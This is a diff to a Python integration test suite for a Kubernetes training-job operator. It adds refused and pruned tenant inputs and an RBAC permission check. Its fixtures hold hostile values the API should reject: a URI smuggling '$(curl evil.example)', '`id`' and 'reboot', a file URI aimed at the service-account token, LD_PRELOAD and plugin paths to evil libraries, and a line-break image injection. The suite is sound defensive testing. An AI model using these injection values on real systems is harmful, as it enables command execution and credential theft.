@@ -35,7 +35,7 @@ pytestmark = pytest.mark.integration
 Object = dict[str, Any]
 
 GROUP = "/apis/train.nexa.dev/v1alpha1"
-ALLOWED = ("registry.example/team/", "nexa-trainer")
+ALLOWED = ("registry.example/team/", "nexa-trainer", "nexa-pinned:1")
 DEFAULTS = Defaults(image="nexa-trainer:0.1.0", storage="default")
 MALLORY = "mallory"
 REFUSALS = (400, 403, 413, 422)
@@ -155,6 +155,9 @@ REFUSED: dict[str, Object] = {
     "a library before all others": env("LD_PRELOAD", "/rows/evil.so"),
     "Python's path": env("PYTHONPATH", "/rows"),
     "the path": env("PATH", "/rows"),
+    "a library by a configuration": env("OPENSSL_CONF", "/rows/evil.cnf"),
+    "a library of the network's": env("NCCL_NET_PLUGIN", "/rows/evil.so"),
+    "another compiler": env("CC", "/rows/evil"),
     "a name that is none": env("A=B"),
     "a name with a line end": env("A\n"),
     "more variables than there may be": {"cluster": {"env": [{"name": f"A{i}", "value": ""} for i in range(65)]}},
@@ -205,6 +208,8 @@ REFUSED: dict[str, Object] = {
     "the allowed name as a registry": {"image": "nexa-trainer:5000/miner"},
     "the allowed name with more to it": {"image": "nexa-trainer-miner:1"},
     "an image after a space": {"image": " nexa-trainer:1"},
+    "a digest behind an allowed tag": {"image": f"nexa-pinned:1@sha256:{'0' * 64}"},
+    "another tag than the one that is allowed": {"image": "nexa-pinned:2"},
     "an image with a line end": {"image": "nexa-trainer:1\nevil.example/miner"},
     "a profile of another namespace": {"artifacts": {"uri": "s3://m", "storage": "../kube-system/admin"}},
     "a profile by a path": {"data": {"remoteUri": "s3://d", "storage": "a/b"}},
@@ -221,6 +226,25 @@ REFUSED: dict[str, Object] = {
     "more than fits": {"data": {"remoteUri": "x" * 4_000_000}},
 }
 """What a tenant must not be able to ask for; the API server says no."""
+
+
+def test_who_may_edit_a_namespace_makes_jobs_and_who_may_view_it_sees_them(arena: Arena):
+    def may(user: str) -> set[str]:
+        asked = {"get": (), "create": (), "delete": (), "patch": ("--subresource=status",)}
+        answers = {
+            verb: arena.ns.kubectl("auth", "can-i", verb, "ntj", *part, f"--as={user}", check=False).strip()
+            for verb, part in asked.items()
+        }
+        return {verb for verb, answer in answers.items() if answer == "yes"}
+
+    expected = {"edna": {"get", "create", "delete"}, "vera": {"get"}, "nobody": set()}
+    for role, user in (("edit", "edna"), ("view", "vera")):
+        arena.ns.kubectl("create", "rolebinding", user, f"--clusterrole={role}", f"--user={user}")
+    wait_until(
+        lambda: {user: may(user) for user in expected} == expected,
+        timeout_seconds=30,
+        what="the cluster's roles take up the chart's",
+    )
 
 
 @pytest.mark.parametrize("attempt", REFUSED)
@@ -277,6 +301,7 @@ PRUNED: dict[str, Object] = {
     "a shell in a URI": {"artifacts": {"uri": "s3://m/$(curl evil.example)/`id`;reboot"}},
     "a token that is not there": {"data": {"remoteUri": "file:///var/run/secrets/kubernetes.io/serviceaccount/token"}},
     "a place in the queue": {"cluster": {"labels": {"kueue.x-k8s.io/priority-class": "low"}}},
+    "the very image that is allowed": {"image": "nexa-pinned:1"},
     "an allowed image by its digest": {"image": f"registry.example/team/x@sha256:{'0' * 64}"},
     "another controller's": {"schedule": {"managedBy": "evil.example/x"}},
 }
@@ -318,7 +343,7 @@ def check_harmless(arena: Arena, stored: Object, pod: Object) -> None:
     assert set(container) <= CONTAINER_FIELDS
     assert spec["automountServiceAccountToken"] is False
     assert {next(iter(set(volume) - {"name"})) for volume in spec["volumes"]} <= VOLUME_KINDS
-    assert container["image"].startswith(("registry.example/team/", "nexa-trainer:", "nexa-trainer@"))
+    assert container["image"].startswith(("registry.example/team/", "nexa-trainer:", "nexa-trainer@", "nexa-pinned:1"))
     assert not spec.get("priorityClassName", "").startswith("system-")
     assert all(toleration.get("key") for toleration in spec.get("tolerations", []))
     assert pod["metadata"]["labels"]["train.nexa.dev/job-uid"] == metadata["uid"]
